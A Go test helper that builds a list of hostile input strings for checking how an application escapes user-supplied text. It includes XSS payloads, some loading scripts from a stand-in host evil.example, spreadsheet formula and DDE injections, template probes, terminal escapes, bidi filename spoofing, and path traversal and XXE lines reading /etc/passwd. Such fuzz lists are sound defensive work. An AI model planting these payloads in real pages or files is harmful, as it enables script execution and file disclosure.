package testkit

import "strings"

// Hostile are texts as somebody might put them into a title, a name, a label or
// an address, in the hope that one of the places where they are shown runs them
// (rel/T1, T2): HTML in every context, addresses that run, templates, formulas
// of spreadsheets, terminal sequences, functions in disguise, and text that
// turns round.
func Hostile() []string {
	scripts := []string{
		`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`,
		`<iframe srcdoc="<script>alert(1)</script>">`, `<a href=javascript:alert(1)>x</a>`, `<style>*{background:url(//evil.example)}</style>`,
		`<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><input>`,
		`<object data=//evil.example/x>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		`<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<body onload=alert(1)>`, `<marquee onstart=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	}
	exits := []string{``, `">`, `'>`, `</title>`, `</textarea>`, `-->`, `]]>`, `</style>`, "`"}
	var list []string
	for i, s := range scripts {
		for j, e := range exits {
			if (i+j)%2 == 0 || j == 0 {
				list = append(list, e+s)
			}
		}
	}
	addresses := []string{
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
		"vbscript:msgbox(1)", "//evil.example/", "https://evil.example\\@good.example/", "file:///etc/passwd", "https://evil.example/\" onmouseover=alert(1) x=\"",
		"http://[::1", "https://evil.example/%00", "blob:https://evil.example/1", "#\" onfocus=alert(1) autofocus=\"",
	}
	list = append(list, addresses...)
	list = append(list,
		`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, `" style="position:fixed;inset:0`, `x" autofocus onfocus="alert(1)`, `\" onload=alert(1)`,
		`{{.Site}}`, `{{define "head"}}x{{end}}`, `${alert(1)}`, `#{7*7}`, `<%= 7*7 %>`, `[[metric]]`, `⟦open 0⟧`, `⟦value 0⟧`,
		`=1+1`, `+1+1`, `-1+1`, `@SUM(1)`, "\t=1+1", "\r=1+1", `=HYPERLINK("http://evil.example","x")`, `=cmd|' /C calc'!A0`,
		"__f__function(){alert(1)}__f__", `function(){alert(1)}`, `{"renderMode":"html"}`, `\u003cscript\u003ealert(1)`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#x3c;script&#x3e;`,
		"\x1b[2J\x1b[31m", "\x1b]0;title\x07", "\x9b31m", "\u202egnp.exe", "\u2066x\u2069\u202d", "\u200bx", "\ufeffx", "\x00x", "\xff\xfe", "a\nb\r\nc", "\u2028x\u2029",
		strings.Repeat("x", 5000), strings.Repeat("é", 3000), strings.Repeat("<b>", 500), strings.Repeat("👩‍💻", 300), `../../etc/passwd`, `..\..\x`, `%2e%2e%2f`, `CON`, ``, ` `, `.`,
		"<!--", "<![CDATA[", "<?php echo 1 ?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", `</svg><script>alert(1)</script>`, `url(#x)"/><script>alert(1)</script>`,
	)
	return list
}
